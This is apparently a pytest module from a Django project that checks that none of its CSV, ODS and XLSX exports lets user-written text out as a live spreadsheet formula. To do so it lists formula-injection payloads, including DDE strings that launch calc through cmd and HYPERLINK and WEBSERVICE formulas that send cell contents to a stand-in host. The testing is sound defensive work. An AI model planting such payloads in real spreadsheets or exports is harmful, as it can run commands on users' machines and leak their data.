"""A12: no cell of any export is a formula, whatever people wrote.

Writers are found in the source, addresses in the resolver: a new one without a test fails here.
LibreOffice opens the files too where it is installed (`apt-get install libreoffice-calc-nogui`).
"""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from django.db import connection
from django.urls import URLPattern, URLResolver, get_resolver

import ensemblier
from ensemblier.fund.printing import sheets
from ensemblier.fund.publication import actions as publication
from ensemblier.fund.publication import rows
from tests import factories_fund as fund
from tests.trust import answers, pages, poison, spreadsheets

pytestmark = pytest.mark.trust
ROOT = Path(ensemblier.__file__).parent
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    " =",
    "\u00a0=",
)
HOSTILE = [f"{start}1+1" for start in STARTS] + [
    '=HYPERLINK("http://a.example/?"&A1;"ici")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://a.example")',
    "-2+3+cmd|' /C calc'!A0",
]
# A plan leaves with formulas of our own: none of them may hold what somebody wrote.
OURS = {"atelier:ods", "atelier:xlsx"}
# Modules that read tables, and write none for anybody.
READ_ONLY = {
    "base/files/table_child.py": "reads what was uploaded",
    "base/territory/official_files.py": "reads official files",
    "base/territory/rebuild.py": "makes the reference of the release from official files",
    "base/territory/reference.py": "reads that reference",
    "fund/programme/commands.py": "reads gifts typed at the command line",
    "fund/publication/statistics.py": "reads back what it wrote through publication/rows.py",
    "web/home/accessibility.py": "reads the grid of the release",
    "engines/cofinancing/lines.py": "reads the lines to share",
    "engines/allocation/certify.py": "reads the votes to check",
    "engines/allocation/reading_pb.py": "reads the votes to share by",
    # Rows for another program at the command line, in a format given by the norm: a cell is what
    # the file that was read holds, letter for letter.
    "cli/split_reading.py": "reads the lines to share",
    "cli/split_writing.py": "writes back the identifiers of its own lines, as the norm asks",
    "fund/boards/commands.py": "writes back the keys of the list it was given, to the screen",
}
# Addresses whose route names a table, met in the world below or written by the module named.
SUFFIXES = (".csv", ".xlsx", ".ods", ".<", "format")
PUBLISHED = "publication/rows.py"
BY_WRITER = {
    "printing:form": "printing/sheets.py",
    "publication:file": PUBLISHED,
    "publication:figures": PUBLISHED,
    "publication:version": PUBLISHED,
    "publication:scdl_version": PUBLISHED,
    "publication:statistics_version": PUBLISHED,
}


def of_publication() -> list[tuple[str, bytes]]:
    content: dict[str, Any] = {name: HOSTILE[n % len(HOSTILE)] for n, name in enumerate(rows.SCDL)}
    kept = [content | {"periode": ["2027-01-01"], "objet": text} for text in HOSTILE]
    both = ((rows.REGULATORY, rows.regulatory_row), (rows.SCDL, rows.scdl_row))
    return [("csv", rows.as_csv(names, [row(c) for c in kept]).encode()) for names, row in both]


def of_printing() -> list[tuple[str, bytes]]:
    found: Any = None
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sheets, "rows", lambda _: [(text, text, 12, -1200) for text in HOSTILE])
        now = fund.NOW
        return [("csv", sheets.as_csv(found).encode()), ("ods", sheets.as_ods(found, now=now))]


def of_scenarios() -> list[tuple[str, bytes]]:
    from ensemblier.fund.decisions.scenario_views import _safe

    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows([_safe([text, "a", 12]) for text in HOSTILE])
    return [("csv", out.getvalue().encode())]


def of_disclosure() -> list[tuple[str, bytes]]:
    from ensemblier.fund.publication import commands

    found: Any = SimpleNamespace(shown={(text,): 12 for text in HOSTILE})
    out = io.StringIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.stdout", out)
        commands.write(["=nom"], found)
    return [("csv", out.getvalue().encode())]


def of_boards() -> list[tuple[str, bytes]]:
    from ensemblier.fund.boards import exports
    from ensemblier.fund.boards.tables import Euros, Table

    made = []
    for kind, write in exports.WRITERS.items():
        cells = [(text, Euros(-12_00), date(2027, 5, 1)) for text in HOSTILE]
        out = io.BytesIO()
        write(Table("liste", HOSTILE[0], ("=nom", "montant", "jour"), cells), out)
        made.append((kind, out.getvalue()))
    return made


def of_stock() -> list[tuple[str, bytes]]:
    """The tables of a chain: lots, lines of the desk."""
    from ensemblier.chain.stock import exports

    rows = [(text, -12, date(2027, 5, 1)) for text in HOSTILE]
    return [("csv", exports.as_csv(["=nom", "nombre", "jour"], rows).encode())]


def of_documents() -> list[tuple[str, bytes]]:
    """The lines of a frozen document, whole and row after row."""
    from ensemblier.chain.billing import lines_csv

    rows = [{"product": text, "cents": -12, "reason": text} for text in HOSTILE]
    written = (lines_csv.csv_of({"lines": rows}), "".join(lines_csv.rows_of(rows)))
    return [("csv", text.encode()) for text in written]


def of_reports() -> list[tuple[str, bytes]]:
    """A sent report, section after section."""
    from ensemblier.reports import views

    out = io.StringIO()
    rows = [[SimpleNamespace(text=text)] for text in HOSTILE]
    section: Any = SimpleNamespace(title=HOSTILE[0], heads=["=nom"], rows=rows)
    views._write(csv.writer(out), section)
    return [("csv", out.getvalue().encode())]


def of_plans() -> list[tuple[str, bytes]]:
    """A plan as sheets: what is text stays text beside our own formulas."""
    from ensemblier.base.files.live_sheets import Sheet, as_ods, as_xlsx

    sheets = [Sheet("Plan", [[text, -12] for text in HOSTILE])]
    return [("ods", as_ods(sheets)), ("xlsx", as_xlsx(sheets))]


def of_simulations() -> list[tuple[str, bytes]]:
    from ensemblier.cli import simulate_writing

    return [("csv", simulate_writing.as_csv(["nom"], [(text, -12) for text in HOSTILE]).encode())]


WRITERS: dict[str, Callable[[], list[tuple[str, bytes]]]] = {
    "fund/publication/rows.py": of_publication,
    "fund/publication/commands.py": of_disclosure,
    "fund/printing/sheets.py": of_printing,
    "fund/decisions/scenario_views.py": of_scenarios,
    "fund/boards/exports.py": of_boards,
    "chain/stock/exports.py": of_stock,
    "chain/billing/lines_csv.py": of_documents,
    "reports/views.py": of_reports,
    "base/files/live_sheets.py": of_plans,
    "cli/simulate_writing.py": of_simulations,
}


def modules_of_tables() -> set[str]:
    """Modules that import csv or openpyxl, or hold the words of an OpenDocument table."""
    return {
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if writes_tables(path.read_text())
    }


def writes_tables(source: str) -> bool:
    return "table:table-cell" in source or bool(_imports(source) & {"csv", "openpyxl"})


def _imports(source: str) -> set[str]:
    found = set()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found |= {alias.name.partition(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            found.add(node.module.partition(".")[0])
    return found


def present() -> list[str]:
    return [name for name in WRITERS if (ROOT / name).exists()]


def test_every_writer_of_tables_is_tried_here() -> None:
    assert modules_of_tables() - set(READ_ONLY) == set(present())


@pytest.mark.parametrize("name", present())
def test_no_writer_lets_a_formula_out(name: str, tmp_path: Path) -> None:
    for kind, content in WRITERS[name]():
        assert spreadsheets.live_cells(content, kind) == [], kind
        if spreadsheets.SOFFICE:
            assert spreadsheets.formulas_in_libreoffice(content, kind, tmp_path) == [], kind


def test_the_finders_do_find(tmp_path: Path) -> None:
    """Negative control: the same words, written without care."""
    from openpyxl import Workbook

    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows([[text] for text in HOSTILE])
    assert len(spreadsheets.live_cells(out.getvalue().encode(), "csv")) == len(HOSTILE)
    book, kept = Workbook(), io.BytesIO()
    book.active.append(["=1+1"])
    book.save(kept)
    assert spreadsheets.live_cells(kept.getvalue(), "xlsx") == ["1+1"]
    if spreadsheets.SOFFICE:
        found = spreadsheets.formulas_in_libreoffice(out.getvalue().encode(), "csv", tmp_path)
        assert "of:=1+1" in found


def routes() -> dict[str, str]:
    """Full name -> whole route, of every address whose route looks like a table."""
    found: dict[str, str] = {}

    def walk(resolver: URLResolver, space: str, before: str) -> None:
        for pattern in resolver.url_patterns:
            whole = before + str(pattern.pattern)
            if isinstance(pattern, URLPattern):
                if any(mark in whole.replace("\\", "") for mark in SUFFIXES):
                    found[f"{space}{pattern.name}"] = whole
            else:
                inner = f"{space}{pattern.namespace}:" if pattern.namespace else space
                walk(pattern, inner, whole)

    walk(get_resolver(), "", "")
    return found


@pytest.mark.sqlite  # a table says the same whatever the database: once is enough
@pytest.mark.django_db
def test_every_table_that_the_site_gives_is_without_formula(settings: Any, tmp_path: Path) -> None:
    """In a world where every text is a formula; what is found is what the routes announce."""
    settings.MEDIA_ROOT = tmp_path / "files"
    with pages.open_world() as world:
        written, refused = poison.poison(lambda field, rank: HOSTILE[rank % len(HOSTILE)])
        # PostgreSQL keeps its CHECKs: a reply without its date stays out, as it should.
        kept_out = {"decisions.Notice.reply"} if connection.vendor == "postgresql" else set()
        assert len(written) > 100 and refused <= kept_out
        publication.refresh(actor=None, now=fund.NOW)
        met: dict[str, list[str]] = {}
        for found in answers.files(world):
            if kind := spreadsheets.KINDS.get(found.media_type):
                met[found.name] = spreadsheets.live_cells(found.content, kind)
    assert {name for name, cells in met.items() if cells} == OURS
    assert not [cell for name in OURS for cell in met[name] if any(x[1:] in cell for x in HOSTILE)]
    assert "decisions:table" in met
    assert set(routes()) - set(met) - set(BY_WRITER) == set()
    assert {f"fund/{name}" for name in BY_WRITER.values()} <= set(WRITERS)
